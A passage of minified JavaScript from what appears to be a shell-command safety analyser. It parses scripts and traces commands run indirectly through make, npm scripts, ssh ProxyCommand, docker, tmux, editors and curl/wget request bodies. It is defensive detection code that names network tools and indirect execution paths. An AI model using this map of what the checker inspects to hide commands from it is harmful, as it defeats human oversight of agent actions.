t.context.stdin?.readRest()??"");let h=g=>{let y=(_,E)=>E??" ",x=n.reduce((_,E)=>_.replace(new RegExp(E,"gi"),y),g);return wt.beside_ignored.test(x)?g:x};for(let g of p.
map(U$).map(h).map(r?B$:String)){i&&us("other",z$(g.slice(0,dc),i),t.wrap());let y=i&&!wt.indirect_runs.test(g)?"":g.slice(0,dc);for(let x of new Set(Wm(y,wt.command_texts).
slice(0,uc)))t.runShell(x);xi(g,r,t,x=>x.split(",").map(_=>Wr(R(_))))}return d}var U$=t=>t.replace(/"(?:[^"\\\n]|\\.){0,500}"/g,e=>e.replace(/\$(?:HOME\b|env:(?:HOME|USERPROFILE)\b|(?:::)?env\(HOME\))/g,
"~")).replace(wt.home_lookup,'"~"').replace(/\$\("~"\)/g,"~");function H$(t){if(!(wt.pester_block.test(t)&&!wt.beside_pester.test(t))||jm(t,t.indexOf("{")+1)<t.
trimEnd().length)return t;let s=t;for(let{0:r,1:n="",index:o}of[...t.matchAll(wt.pester_mock)].slice(0,uc)){let i=o+r.length,a=jm(t,i),l=new RegExp(`(?<![\\\\\\w-]\
)${n}\\b[^;|&\\n{}()]*`,"gi"),c=s.slice(i,a).replace(l,d=>" ".repeat(d.length));s=s.slice(0,o)+" ".repeat(r.length)+c+s.slice(a)}return s}function jm(t,e){let s=e;
for(let r=1;s<t.length&&r>0;s+=1)r+={"{":1,"}":-1}[t[s]]??0;return s}function B$(t){let e=new Map,s=(n,o="")=>{let i=e.get(n);e.set(n,i===void 0?o:`${i},${o}`)};
for(let[,n,o]of t.matchAll(wt.constant_list))s(n.toLowerCase(),o);for(let[,n,o]of t.matchAll(wt.loop_over_variable)){let i=e.get(o.toLowerCase());i!==void 0&&s(
n.toLowerCase(),i)}let r=dc;return H$(t).replace(wt.variable_use,(n,o)=>{let i=e.get(o.toLowerCase());return r-=i?.length??0,i===void 0||r<0?n:i})}function z$(t,{
comment:e,texts:s,inserts:r="(?!)",rewrites:n}){let o=[],i=new RegExp(`${e}|${s}`,"gm"),a=d=>d.replace(i,(...u)=>{let m=(u.slice(1,-2).find(h=>h!==void 0)?.split(
new RegExp(r))??[]).map((h,g)=>g%2?`(${a(h)})`:`"${o.push(h)-1}"`);return m.length>1?`(${m.join(" + ")})`:m[0]??" "}),l=a(t.replace(/\\\n\s*/g," "));for(let[d,u]of n)
l=l.replace(new RegExp(d,"gm"),u);let c=(d="")=>d.replace(/\\[\s\S]|["\\]/g,u=>u.length>1?u:`\\${u}`);return l.replace(/['`]/g," ").replace(/"(\d+)"/g,(d,u)=>`"${c(
o[u])}"`)}function xi(t,e,s,r=n=>[n]){for(let[n,o]of Object.entries(e??{}))for(let i of o.flatMap(a=>Wm(t,a)))for(let a of n==="$"?[i]:r(i))s.runShell(n.split("\
$").join(a))}var Wm=(t,e)=>[...t.matchAll(new RegExp(e,"gi"))].map(s=>s.at(-1)??"\uFFFC"),Mm={[[...S.smallLanguages.keys()].join(" ")]:V$};var G$={t:"test",i:"install",ci:"install",add:"install"},K$=4,Fm=4096,Vm=(t,e)=>[...t.matchAll(e)].map(([,s,r])=>[s,r]);function Um(t,e){let s=t;for(let r=0;r<K$&&
s.length<Fm;r+=1)s=s.replace(/(?<!\$)\$(?:\(([\w.]+)\)|\{([\w.]+)\})/g,(n,o,i)=>e.get(o??i)??(i===void 0?n:`\${${i.replaceAll(".","_")}}`));return s.length<Fm?s.
replaceAll("$$","$"):"\uFFFC\uFFFB"}function Hm(t){let e=t.findWritten("package.json")?.text;if(e===void 0)return;let[s="",r]=t.args.filter(({text:i})=>!i.startsWith(
"-")).map(({text:i})=>i),n=/^(?:run|run-script|rum|urn)$/.test(s)?r:G$[s]??s,{scripts:o}=Nl(e)??{};for(let i of[`pre${n}`,n,`post${n}`]){let a=o?.[i];typeof a!=
"string"||t.interpreter.activeScripts.includes(`script ${i}`)||(t.interpreter.activeScripts.push(`script ${i}`),t.runShell(a),t.interpreter.activeScripts.pop())}}
var Bm={"make gmake":t=>{t.record();let{options:e}=W(t.args,S.getopt.make),s=K(e,"n","dry-run","just-print","recon")&&!K(e,"eval","E","no-dry-run"),r=M(e,"f","f\
ile","makefile").map(({text:i})=>i),n=M(e,"eval","E").map(({text:i})=>i);for(let i of r.length>0?r:["Makefile","makefile","GNUmakefile"])n.push((i==="-"?t.context.
stdin?.readRest():t.findWritten(i)?.text)??"");let o=t.args.flatMap(({text:i})=>Vm(i,/^([\w.]+)=([\s\S]*)$/g));for(let[i,a]of o)i==="SHELL"&&t.runShell(a);for(let i of n){
let a=Vm(i,/^(?:export |override )?([\w.]+)[ \t]*(?::{0,3}|[?+])=[ \t]*([^\n]*)$/gm),l=new Map([...Object.entries(S.makeVariables),...a,...o]);for(let[,c]of i.matchAll(
/\$\(shell\s+((?:[^()]|\([^()]*\))*)\)/g))t.runShell(Um(c,l));for(let c of i.replaceAll(`\\
`," ").split(`
`)){let[,d,u]=/^(?:\t|[^\t=#:]+:[^=;]*;)[\t ]*([@+-]*)(.*)/.exec(c)??[],p=s&&!/^-?include\b/m.test(i)&&!d?.includes("+")&&!/\$[({]MAKE\b/.test(c);u!==void 0&&!p&&
t.runShell(Um(u,l))}}return"\uFFFC"},just:t=>{t.record();let{options:e}=W(t.args,S.getopt.just),s=M(e,"f","justfile").map(({text:n})=>n);s.length===0&&s.push("j\
ustfile","Justfile",".justfile");let r=s.map(n=>t.findWritten(n)?.text??"").join(`
`);for(let[,n]of r.matchAll(/^[ \t]+[@-]*(\S.*)/gm))t.runShell(n.replace(/\{\{[^}]*\}\}/g,"\uFFFC"));return"\uFFFC"}};var{getopt:ft,forms:at}=S,zm=16384,Y$=t=>{let e=t.replaceAll("+"," "),s=Zs.url(e);return s==="\uFFFC"?e:s},Q$=100,X$=({code:t=[],pattern:e,operands:s,unless:r=[],
does:n,...o})=>i=>{let a=i.record(),{options:l,operands:c}=W(i.args,{permuted:!0,...o});if(K(l,...r))return a;let d=n?c.flatMap(({text:u})=>i.findWritten(u)?.text??
[]):[];xi([...d,n&&i.context.stdin?.readRest()].join(`
`),n,i);for(let{text:u}of[...M(l,...t),...s==="code"?c:[]]){let f=[...e===void 0?[]:u.matchAll(new RegExp(e,"g"))].map(m=>m.at(-1).replace(/\\(["\\])/g,"$1"));for(let m of e===
void 0?[u]:f)i.runShell(m)}return a},$i=`new-container
`;function J$(t,e){let{operands:s}=W(t.args.slice(1),ft.container),r=!t.args.some(({text:n})=>at.container_network.test(n));return Gm(t,e)&&r&&at.database_image.
test(s[0]?.text??"")}function Z$(t,e){let{interpreter:s,context:r,args:n,program:o}=t,i=W(e,ft.container).operands[0]?.text??"";if(n[0]?.text!=="exec"||n.some(({
text:u})=>at.container_network.test(u)))return;let a=s.invocations.filter(u=>at.container_engine.test(u.program)),l=a.filter(u=>/^(?:run|create)$/.test(u.args[0]?.
text??""));if(`${i}
`===$i)return l.length===1?l[0]:void 0;let c=l.filter(u=>{let p=` ${u.args.map(({text:m})=>m).join(" ")} `,f=p.includes(` --name ${i} `)||p.includes(` --name=${i}\
 `);return u.program===o&&f&&u.wrappers.length===r.wrappers.length}),d=a.some(u=>u.args.some(({text:p})=>p==="rename"));return i.includes(S.uniqueMark)&&!d?c.length===
1?c[0]:void 0:c.find(u=>r.needs?.includes(u))}var e_=(t,e)=>at.plain_volume.test(t)&&t.split(":")[0].includes(S.uniqueMark)&&!e.some(s=>at.bound_volume.test(ie(
s.args).text));function Gm(t,e){let{program:s,args:r,environment:n}=t,[o,...i]=r[0]?.text==="container"?r.slice(1):r;if(!at.container_engine.test(s)||o?.text!==
"run"||["DOCKER_HOST","CONTAINER_HOST","DOCKER_CONTEXT"].some(l=>l in n))return!1;let{options:a}=W(i,ft.container);return a.every(({name:l,value:c})=>/^(?:v|volume)$/.
test(l)?/:ro(?:,|$)/.test(c?.text??"")||e_(c?.text??"",e):S.programWords.closed_options.has(l))}var Km={"vim vi nvim view ex ed less more":t=>{t.record();let{options:e,
operands:s}=W(t.args,ft.editor),r=M(e,"c","cmd").map(({text:l})=>l),n=s.flatMap(({text:l})=>l.startsWith("+")?[l.slice(1)]:[]),o=/^(ex|ed|vi|vim|nvim)$/.test(t.
program)?t.context.stdin?.readRest().split(`
`)??[]:[],i=[...r,...n,...o],a=s.map(({text:l})=>l.replace(/^\+.*/,""));xi([`args ${a.join(" ")}`,...i].join(`
`),S.codeOptions.get("editor")?.does,t);for(let l of i){let c=at.editor_shell.exec(l),[,d]=/^\s*:?lua\s+(.*)/s.exec(l)??[];d!==void 0&&t.runCommandWords($e(["lu\
a","-e",d])),c&&t.runShell(c[1]??"sh")}return"\uFFFC"},"sed gsed":Pm,ssh:t=>{let{options:e,operands:s}=W(t.args,ft.ssh),[r,...n]=s,{options:o,operands:i}=W(n,ft.
ssh),a=i.length===0&&r!==void 0&&t.context.stdin!==void 0;a||t.with({args:t.args.filter(l=>!i.includes(l))}).record();for(let{text:l}of M([...e,...o],"o")){let[
,c]=/^(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ]\s*(.*)/i.exec(l)??[];c!==void 0&&t.runShell(c)}return i.length>0?t.runShell(ie(i).text):a?Tn(t.with({scope:t.
createChildScope()})):"\uFFFC"},"sftp ftp lftp":t=>{let{options:e,operands:s}=W(t.args,S.getopt.transfer),r=t.context.stdin?.readRest()??"",[n]=M(e,"b"),o=n&&t.
interpreter.files.written(n.text,t.scope.folder)?.text,i=t.record(),a=[r,o??"",...M(e,"e","c").map(d=>d.text)].join(`
`).split(/[\n;]/),l=a.flatMap(d=>/^\s*open\s+(?:-\S+\s+)*(\S+)/.exec(d)?.[1]??[]),c=(s[0]?.text??l[0]??"").replace(/^[a-z]+:\/\//,"").replace(/[:/].*$/,"");for(let d of a.
slice(0,Q$)){let[,u]=at.sending_command.exec(d)??[],p=u?.split(/\s+/).filter(h=>h!==""&&!h.startsWith("-"))??[],f=p.length>1&&!/mput/.test(d)?p.slice(0,-1):p,m=[
"scp","-r",...f,`${c||"unknown"}:`];f.length>0&&t.runCommandWords(m.map(h=>({text:h,glob:/[*?[]/.test(h)})))}return i},"docker docker-compose podman nerdctl kub\
ectl oc":t=>{let e=t.record(),{operands:s}=W(t.args,ft.container);(s[0]?.text==="compose"||s[0]?.text==="container")&&({operands:s}=W(s.slice(1),ft.container));
let[r,...n]=s,o=at.container_engine.test(t.program);if(o&&r?.text==="create")return $i;if(!/^(exec|run|debug)$/.test(r?.text??""))return e;let i=n.findIndex(({text:y})=>y===
"--"),{options:a,operands:l}=W(n,ft.container),c=[...M(a,"entrypoint"),...l.slice(1)],d=i===-1?c:n.slice(i+1),u=o&&r?.text==="run"&&K(a,"d","detach");if(d.length===
0)return u?$i:"\uFFFC";let p=Z$(t,n),{invocations:f}=t.interpreter,m=p&&J$(p,f)?t.wrap().wrap(_r):t.wrap(),{context:h}=Gm(p??t.createInvocation(),f)?m.wrap($r):
m,g=t.interpreter.runWords(d,t.scope,h);return u?$i:g},"curl wget wget2 aria2c axel":t=>{let e=t.record();for(let{text:c}of dn(t))t.write(c,"\uFFFC",t.interpreter.
invocations.slice(-1));let{options:s,operands:r}=W(t.args,S.getopt.request),n=M(s,...S.programWords.body_options),o=[...M(s,"url"),...r],l=(o.length>0&&o.every(
({text:c})=>at.own_server.test(c)&&!at.sql_path.test(c))&&!s.some(({name:c})=>/^(?:x|proxy)$/.test(c))?[]:[...n,...o]).flatMap(({text:c})=>[...c.slice(0,zm).matchAll(
at.request_fields)].map(([,d,u])=>d===void 0?u.replace(/\\n/g,`
`).replace(/\\(.)/g,"$1"):Y$(d)));for(let c of[...n.map(({text:d})=>d.slice(0,zm)),...l])at.request_statement.test(c)&&us("sql",c,t);return e},"at batch":t=>Tn(
t,t.createChildScope()),"cp mv install ln":t=>{let e=t.record(),{options:s,operands:r}=W(t.args,ft.copy),[n]=M(s,"t","target-directory"),o=n??r.at(-1);for(let{text:i}of n?
r:r.slice(0,-1)){let a=/^\/(usr\/(local\/)?)?s?bin\/[\w.-]+$/.test(i),l=t.findWritten(i)??(a?{text:`${i} "$@"`,from:[]}:void 0);l===void 0||!o||(t.write(o.text,
l.text,l.from),t.write(`${o.text}/${i.slice(i.lastIndexOf("/")+1)}`,l.text,l.from))}return e},tmux:t=>{let e=t.record(),[s,...r]=W(t.args,ft.tmux).operands,{operands:n}=W(
r,ft["tmux-command"]);return/^(neww?|(new|split)-\w+|splitw|run|run-shell|respawn-pane|send|send-keys)$/.test(s?.text??"")&&t.runShell(ie(n.filter(({text:o})=>!/^(Enter|C-m|KPEnter)$/.
test(o))).text),e},screen:t=>{let e=t.record(),{options:s,operands:r}=W(t.args,ft.screen);return t.runShell(K(s,"X")?ie(r).text:Mr(r)),e},cargo:t=>(t.args[0]?.text.
startsWith("+")?t.with({args:t.args.slice(1)}):t).record(),...Object.fromEntries([...S.codeOptions].map(([t,e])=>[t,X$(e)])),[[...S.runners.keys()].join(" ")]:t=>{
let{after:e=[],code:s=[],skip:r=0,...n}=S.runners.get(t.program),{operands:o}=W(t.args,n);/^(npm|pnpm|yarn|bun)$/.test(t.program)&&Hm(t);let[i]=o;if(/^(?:pnpm|yarn)$/.
test(t.program)&&o.length>1&&!S.packageVerbs.has(i.text))return t.record(),t.runWords(o);let l=/^(?:workspaces?|foreach|recursive|multi|m)$/.test(o[0]?.text??"")?
o.slice(0,10).findIndex(({text:m})=>e.includes(m)):0;if(e.length>0&&!e.includes(o[l]?.text??""))return vi(t)??t.record();let c=t.record(),{options:d,operands:u}=W(
o.slice(e.length>0?l+1:0),n);for(let{text:m}of M(d,...s))t.runShell(m);let p=u.findIndex(({text:m})=>m==="--"),f=p===-1?u.slice(r):u.slice(p+1);return f.length>
0?t.runCommandWords(f):c}};function _i(t,e=!1){if(!(t.length>200||(t.match(/\*/g)?.length??0)>2))return t.replace(/\\(.)|\[(!|\^)?(\]?[^\]]*)\]|\*+|[\s\S]/g,(s,r,n,o)=>r!==void 0?Ym(r):o!==
void 0?`[${n?"^":""}${o.replace(/[\\\]^]/g,"\\$&")}]`:s[0]==="*"?e?"[^]*?":"[^]*":s==="?"?"[^]":Ym(s))}var Ym=t=>t.replace(/[\\^$.*+?()[\]{}|/]/g,"\\$&");var t_=8;function s_(t){return t.slice(0,t_).findIndex(({text:e},s)=>{let r=t[s+1]?.text??"";return e==="git"&&t.length>s+2?!0:S.risky.has(e.slice(e.lastIndexOf(
"/")+1))&&/^[-/~.*]|=|\//.test(r)})}function r_(t){let e=t.includes("\uFFFC")?void 0:_i(t),s=e===void 0?void 0:$s(`^(?:${e})$`);return s?[...S.risky].filter(r=>s.
test(r)).slice(0,3):[]}function Xm(t){let e=S.wrappers.get(t.program);return e?Qm(t,e):/^ld(-linux.*)?\.so/.test(t.program)?Qm(t,{long:["library-path","preload",
"argv0"]}):o_(t)}function Qm(t,e){let{skip:s=0}=e,{options:r,operands:n}=W(t.args,e),o=W(n.slice(s),e),i=o.options.length>0&&s>0?o.operands:n.slice(s);s>0&&r.push(
...o.options);let[a]=M(r,...e.folder??[]),l=a?t.scope.copy():t.scope;a&&(l.folder=a.text);let c=M(r,...e.code??[]),d=t.interpreter.invocations.length;e.own&&t.record();
let u="",p={...t.context.environment};e.assigns&&n_(i,p);let f=t.with({scope:l,context:{...t.context,environment:p}}),m=(y,x)=>f.runShell(y,[R("sh"),...x]),h=ie(
i).text;for(let{text:y}of c)u=m(e.assigns?`${y} ${h}`:y,i);let g=e.joined&&!K(r,"x","exec")||i.length===1&&pi(i[0]);return c.length===0&&i.length>0&&(u=g?m(h,[]):
f.runWords(i)),t.interpreter.invocations.length===d?t.record():u}function n_(t,e){for(;;){let[,s,r]=/^([A-Za-z_]\w*)=([\s\S]*)$/.exec(t[0]?.text??"")??[];if(s===
void 0)return;e[s]=R(r,t.shift().glob)}}function o_(t){let{program:e,words:s,args:r}=t,n=s[0].glob?r_(e):[e.replaceAll("\uFFFC","")];for(let i of n)i!==""&&i!==
e&&t.runWords([R(i),...r]);let o=S.nonRunners.has(e)?-1:s_(r);o!==-1&&t.runWords(r.slice(o))}function Pn(t,e){switch(t.type){case"Script":case"CompoundList":case"AndOr":for(let s of t.commands)e(s);return;case"Statement":e(t.command);return;case"Command":
for(let s of t.prefix)e(s);t.name&&e(t.name);for(let s of t.suffix)e(s);return;case"Pipeline":for(let s of t.prefixes)e(s);for(let s of t.commands)e(s);return;case"\
Redirected":e(t.command);for(let s of t.redirects)e(s);return;case"If":e(t.clause),e(t.then);for(let s of t.elif)e(s);t.else&&e(t.else);return;case"Elif":e(t.clause),
e(t.then);return;case"For":case"Select":if(e(t.name),t.wordlist)for(let s of t.wordlist)e(s);e(t.body);return;case"While":e(t.clause),e(t.body);return;case"Func\
tion":case"Coproc":t.name&&e(t.name),e(t.body);return;case"Subshell":case"BraceGroup":e(t.body);return;case"Case":e(t.word);for(let s of t.items)e(s);return;case"\
CaseItem":for(let s of t.pattern)e(s);e(t.body);return;case"ArithmeticFor":{let s=t.initialize;s&&e(s);let r=t.test;r&&e(r);let n=t.update;n&&e(n),e(t.body);return}case"\
Word":case"Glob":case"ArithmeticWord":case"HereDocBody":case"BraceExpansion":case"ExtendedGlob":{let s=t.parts;if(s)for(let r of s)e(r);return}case"DoubleQuoted":case"\
LocaleString":for(let s of t.parts)e(s);return;case"ParameterExpansion":t.index&&e(t.index),t.operation&&e(t.operation);return;case"Default":case"Remove":case"T\
ransform":e(t.operand);return;case"CaseModification":t.operand&&e(t.operand);return;case"Replace":e(t.pattern),e(t.replacement);return;case"Slice":e(t.offset),t.
length&&e(t.length);return;case"Assignment":{let s=t.index;s&&e(s),e(t.value);return}case"ArrayValue":for(let s of t.elements)e(s);return;case"Redirect":case"He\
reString":t.descriptor&&e(t.descriptor),t.target&&e(t.target);return;case"HereDoc":t.descriptor&&e(t.descriptor),t.delimiter&&e(t.delimiter),e(t.body);return;case"\
CommandExpansion":case"ProcessSubstitution":case"ArithmeticCommandExpansion":{let s=t.script;s&&e(s);return}case"ArithmeticExpansion":case"ArithmeticCommand":case"\
ArithmeticGroup":case"TestCommand":case"TestGroup":{let s=t.expression;s&&e(s);return}case"ArithmeticBinary":case"TestBinary":e(t.left),e(t.right);return;case"A\
rithmeticUnary":case"TestUnary":e(t.operand);return;case"ArithmeticTernary":e(t.test),e(t.consequent),e(t.alternate);return;case"TestLogical":for(let s of t.operands)
e(s);return;case"TestNot":for(let s of t.negations)e(s);e(t.operand);return;case"Literal":case"SingleQuoted":case"AnsiCQuoted":case"SimpleExpansion":case"Names":case"\
Unknown":case"FileDescriptor":case"FileDescriptorVariable":case"HereDocDelimiter":case"Time":case"Negation":return;default:{let s=t;throw new TypeError(`Unexpec\
ted syntax node: ${s}`)}}}function Jm(t){return t>=48&&t<=55}function eh(t){return t>=48&&t<=57||t>=65&&t<=70||t>=97&&t<=102}function i_(t,e){try{return String.fromCodePoint(t)}catch{return e}}
var a_=new TextDecoder("utf-8",{ignoreBOM:!0});function Zm(t){return a_.decode(new Uint8Array(t))}function l_(t,e,s){if(t.charCodeAt(e)!==92||e+2>s)return;let r=t.
charCodeAt(e+1),n=e+2,o=n;if(r===120){for(;o<s&&o-n<2&&eh(t.charCodeAt(o));)o++;return o===n?void 0:{value:Number.parseInt(t.slice(n,o),16),end:o}}if(Jm(r)){for(;o<
s&&o-n<2&&Jm(t.charCodeAt(o));)o++;return{value:Number.parseInt(t.slice(e+1,o),8)&255,end:o}}}function Rn(t,e,s){let r=e,n="",o=[],i=-1;for(;r<s&&t.charCodeAt(r)!==
39;){let l=r,c=l_(t,r,s);if(c&&c.value>=128){o.push(c.value),r=c.end;continue}if(o.length>0&&(n+=Zm(o),o=[]),c){c.value===0&&i===-1&&(i=n.length),n+=String.fromCharCode(
c.value),r=c.end;continue}if(t.charCodeAt(r)!==92||r+1>=s){let u=r;for(;r<s;){let p=t.charCodeAt(r);if(p===39||p===92&&r+1<s)break;r++}n+=t.slice(u,r);continue}
r++;let d=t[r++];switch(d){case"a":n+="\x07";break;case"b":n+="\b";break;case"e":case"E":n+="\x1B";break;case"f":n+="\f";break;case"n":n+=`
`;break;case"r":n+="\r";break;case"t":n+="	";break;case"v":n+="\v";break;case"\\":n+="\\";break;case"'":n+="'";break;case'"':n+='"';break;case"?":n+="?";break;case`\

`:break;case"c":{let u=r<s?t.charCodeAt(r):39;if(u===39){n+=t.slice(l,r);break}if(r++,u===92){let f=r<s&&t.charCodeAt(r)===92;f&&r++,n+="",!f&&r<s&&(n+=t[r],r++);
break}let p=u===63?127:u&31;p===0&&u<128&&i===-1&&(i=n.length),n+=String.fromCharCode(p);break}case"u":case"U":{let u=r,p=d==="u"?4:8;for(;r<s&&r-u<p&&eh(t.charCodeAt(
r));)r++;if(r===u){n+=`\\${d}`;break}let f=t.slice(l,r),m=Number.parseInt(t.slice(u,r),16);m===0&&i===-1&&(i=n.length),n+=i_(m,f);break}default:n+=`\\${d}`;break}}
o.length>0&&(n+=Zm(o)),i!==-1&&(n=n.slice(0,i));let a=r<s;return a&&r++,{value:n,end:r,closed:a}}var kt=class t{static _resolveScript;type;pos;end;text;#e;#t=void 0;constructor(e,s,r,n,o){this.type=e,this.pos=s,this.end=r,this.text=n,this.#e=o}get script(){
let e=this.#e;if(e!==void 0){let s=t._resolveScript(e.source,e.start,e.end,e.depth,e.parenBoundary,e.context);e.context===void 0&&(s.source=e.source),this.script=
s}return this.#t}set script(e){this.#t=e,this.#e=void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,script:this.script}}},Si=class extends kt{operator;constructor(e,s,r,n,o){
super("ProcessSubstitution",e,s,r,o),this.operator=n}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,operator:this.operator,script:this.
script}}},Fr=class t{static _resolveExpression;type="ArithmeticExpansion";pos;end;text;#e;#t=void 0;constructor(e,s,r,n){this.pos=e,this.end=s,this.text=r,this.#e=
n}get expression(){let e=this.#e;return e!==void 0&&(this.expression=t._resolveExpression(e.body,e.offset,e.source,e.depth,e.context,e.depth+1)),this.#t}set expression(e){
this.#t=e,this.#e=void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,expression:this.expression}}};function c_(t){let e="";for(let s of t)e+=s.type==="Literal"?s.value:s.text;return e}function Ci(t){let e=t.indexOf("\\");if(e===-1)return t;let s="",r=0;for(let n=e;n<
t.length;n++)if(t.charCodeAt(n)===92){if(s+=t.slice(r,n),n++,n>=t.length){s+="\\",r=n;break}t.charCodeAt(n)!==10&&(s+=t[n]),r=n+1}return s+t.slice(r)}function th(t){
let e=1;for(;t[e]==="\\"&&t[e+1]===`
`;)e+=2;return e===1||t[e]!=="("?t:t[0]+t.slice(e)}function Ei(t){let e="";for(let s of t)switch(s.type){case"Literal":case"Glob":case"SingleQuoted":case"AnsiCQ\
uoted":e+=s.value;break;case"DoubleQuoted":case"LocaleString":e+=c_(s.parts);break;case"CommandExpansion":e+=s.text[0]==="$"?th(s.text):s.text;break;case"Extend\
edGlob":e+=th(s.text);break;default:e+=s.text;break}return e}var We=class{type="Word";text;pos;end;#e;#t;#r;#s;#n=null;constructor(e,s,r,n,o,i=0){this.text=e,this.pos=s,this.end=r,this.#e=n,this.#t=o,this.#r=i,this.#s=o===
void 0?void 0:null}get value(){if(this.#n===null){let e=this.#e===void 0&&this.#s===null?void 0:this.parts;this.#n=e?Ei(e):Ci(this.text)}return this.#n}get parts(){
return this.#s===null&&(this.#s=this.#t?.(this.#e??"",this,this.#r)??void 0),this.#s}set parts(e){this.#s=e??void 0}toJSON(){return{type:this.type,text:this.text,
pos:this.pos,end:this.end,parts:this.parts,value:this.value}}};function Vr(t){return{boundaries:t===void 0?void 0:pc(t),wordParts:void 0,embeddedParts:void 0,arrayParts:void 0}}function pc(t){return t.boundaries??(t.boundaries=
new Map)}function rt(t,e,s){for(;e+1<s&&t.charCodeAt(e)===92&&t.charCodeAt(e+1)===10;)e+=2;return e}function Ts(t){return/[*?[]/.test(t)}var Ht=new Uint8Array(128);Ht[33]=1;Ht[94]=1;Ht[91]=1;Ht[93]=1;Ht[58]=1;Ht[46]=1;Ht[61]=1;Ht[45]=1;Ht[92]=1;function d_(t,e,s,r,n){
let o=s-1;for(;o>e&&t.charCodeAt(o)!==93;)o--;if(o===e)return null;let i=[],a=[],l=[],c=0,d=!1;for(let y=e;y<s;y++){for(;r&&c<r.length&&r[c].end<=y+n;)c++;let x=r?.[c],
_=y,E=0;if(x&&x.pos<=y+n&&x.type!=="Literal")y=x.end-n-1;else{if(E=t.charCodeAt(y),E===92&&y+1<s&&t.charCodeAt(y+1)===10){y++;continue}(E>=128||!Ht[E])&&(E=0)}let $=a.
length-1;if(E===0&&$>=0&&a[$]===0){l[$]++;continue}$>=0&&a[$]===91&&(E===58||E===61||E===46)&&(d=!0),i.push(_),a.push(E),l.push(1)}let u=a.length,p;if(d){p=new Int32Array(
u).fill(-1);let y=-1,x=-1,_=-1,E=-1;for(let $=u-1;$>=0;$--){let T=a[$+2];if(T===93?y=$+2:a[$+3]===93&&(T===58?x=$+2:T===61?_=$+2:T===46&&(E=$+2)),a[$]!==91)continue;
let q=a[$+1],A=q===58?x:q===61?_:q===46?E:-1;A!==-1&&(q===46||y===-1||y>A)&&(p[$]=A+2)}}let f=y=>p===void 0?-1:p[y],m=new Int32Array(u+2).fill(-1),h=(y,x)=>{if(y>=
u)return-1;if(x&&a[y]===45&&y+1<u&&a[y+1]!==93){let _=y+1;if(a[_]===92){if(_+1>=u)return-1;_++}let E=_+1;if(a[_]===91&&a[_+1]===46){let $=f(_);$!==-1&&(E=$)}else if(a[_]===
0&&l[_]>1)return m[_];return E>=u?-1:a[E]===93?E+1:m[E]}return a[y]===93?y+1:m[y]};for(let y=u-1;y>=0;y--){let x=a[y],_=y+1,E=!0;if(x===92){if(y+1>=u)continue;_=
y+2}else if(x===91){let $=a[y+1];if($===58||$===61||$===46){let T=f(y);T!==-1&&(_=T,E=$===46)}}m[y]=h(_,E)}let g=new Map;for(let y=0;y<u;y++){if(a[y]!==91)continue;
let x=y+1;if((a[x]===33||a[x]===94)&&x++,x>=u)continue;let _=a[x]===93?h(x+1,!0):m[x];_!==-1&&g.set(i[y],i[_-1]+1)}return g}function fc(t,e,s,r,n,o,i){for(;e<s;){
for(;r&&n<r.length&&r[n].end<=e+o;)n++;let a=r?.[n];if(a&&a.pos===e+o&&a.end<=s+o){i.push(a),e=a.end-o,n++;continue}let l=a?Math.min(s,(a.pos>e+o?a.pos:a.end)-o):
s,c=t.slice(e,l);i.push({type:"Literal",pos:e+o,end:l+o,text:c,value:Ci(c)}),e=l}return n}function Bt(t,e,s,r,n=0){let o,i,a=0,l=0,c=e;for(let d=e;d<s;d++){for(;r&&
a<r.length&&r[a].end<=d+n;)a++;let u=r?.[a];if(u&&u.pos<=d+n&&u.type!=="Literal"){d=u.end-n-1;continue}let p=t.charCodeAt(d);if(p===92){d++;continue}let f;if(p===
42||p===63){let g=u?Math.min(s,u.end-n):s,y=rt(t,d+1,g);if(y<g&&t.charCodeAt(y)===40)continue;if(f=d+1,p===42)for(;f<g&&t.charCodeAt(f)===42;){let x=rt(t,f+1,g);
if(x<g&&t.charCodeAt(x)===40)break;f++}}else if(p===91){i===void 0&&(i=d_(t,d,s,r,n));let g=i?.get(d);if(g===void 0)continue;f=g}else continue;o||(o=[]),l=fc(t,
c,d,r,l,n,o);let m=t.slice(d,f),h;if(p===91){let g=[];l=fc(t,d+1,f-1,r,l,n,g),h={type:"Glob",kind:"bracket",pos:d+n,end:f+n,text:m,value:"["+Ei(g)+"]",parts:g}}else
h={type:"Glob",kind:p===42?"star":"question",pos:d+n,end:f+n,text:m,value:m,parts:void 0};o.push(h),c=f,d=f-1}return o?(fc(t,c,s,r,l,n,o),o):r??void 0}var b={Word:0,Assignment:1,Semi:2,Newline:3,Pipe:4,And:5,Or:6,Amp:7,LParen:8,RParen:9,LBrace:10,RBrace:11,Bang:12,If:13,Then:14,Else:15,Elif:16,Fi:17,Do:18,Done:19,
For:20,While:21,Until:22,In:23,Case:24,Esac:25,Function:26,DoubleSemi:27,SemiAmp:28,DoubleSemiAmp:29,Select:30,DblLBracket:31,DblRBracket:32,EOF:33,ArithCmd:34,
Coproc:35,Redirect:36},Ai=class{token=b.EOF;_value="";_owner;pos=0;end=0;fileDescriptor=void 0;variableName=void 0;descriptorEnd=0;delimiterQuoted=!1;content=void 0;targetPos=0;targetEnd=0;assignmentOperatorPos=-1;raw=!1;keywordEligible=!1;constructor(e=null){
this._owner=e}get value(){return this._value??(this._value=this._owner===null?"":this._owner._tokenValue(this.pos,this.end,this.raw))}set value(e){this._value=e}reset(){
this.token=b.EOF,this._value="",this.pos=0,this.end=0,this.fileDescriptor=void 0,this.variableName=void 0,this.descriptorEnd=0,this.delimiterQuoted=!1,this.content=
void 0,this.targetPos=0,this.targetEnd=0,this.assignmentOperatorPos=-1,this.raw=!1,this.keywordEligible=!1}copyFrom(e){this.token=e.token,this._value=e._value,this.
pos=e.pos,this.end=e.end,this.fileDescriptor=e.fileDescriptor,this.variableName=e.variableName,this.descriptorEnd=e.descriptorEnd,this.delimiterQuoted=e.delimiterQuoted,
this.content=e.content,this.targetPos=e.targetPos,this.targetEnd=e.targetEnd,this.assignmentOperatorPos=e.assignmentOperatorPos,this.raw=e.raw,this.keywordEligible=
e.keywordEligible}},sh=new Map([["if",b.If],["then",b.Then],["else",b.Else],["elif",b.Elif],["fi",b.Fi],["do",b.Do],["done",b.Done],["for",b.For],["while",b.While],
["until",b.Until],["in",b.In],["case",b.Case],["esac",b.Esac],["function",b.Function],["select",b.Select],["coproc",b.Coproc],["!",b.Bang],["{",b.LBrace],["}",b.
